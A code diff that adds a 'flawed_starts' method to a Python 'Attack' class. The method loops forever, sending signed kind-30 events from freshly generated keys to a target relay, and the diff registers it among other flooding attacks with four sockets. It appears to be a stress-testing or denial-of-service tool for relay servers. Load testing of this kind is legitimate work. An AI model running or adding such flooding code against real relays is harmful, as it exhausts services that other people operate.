@@ -191,6 +191,14 @@ class Attack:
                 await socket.send(self.signed(key, 20300, "", *named))
                 await asyncio.sleep(0.02)
 
+    async def flawed_starts(self) -> None:
+        """Have refusals written that relays keep, by starts of kind 30 of fresh keys."""
+        async with self.socket(self.target.relay) as socket:
+            while True:
+                key = SecretKey.generate(secrets.token_bytes(32))
+                await socket.send(self.signed(key, 30, '{"version":"0","kind":0,"history":["e4"]}'))
+                await asyncio.sleep(_PAUSE_SECONDS)
+
     async def filters(self) -> None:
         """Send requests of ten thousand filters."""
         async with self.socket() as socket:
@@ -264,6 +272,7 @@ _SOCKETS = {
     Attack.fragments: 100,
     Attack.flooded_relay: _FEW,
     Attack.challenges: 4,
+    Attack.flawed_starts: 4,
     Attack.filters: _FEW,
     Attack.helpmates: _FEW,
     Attack.pages: 16,
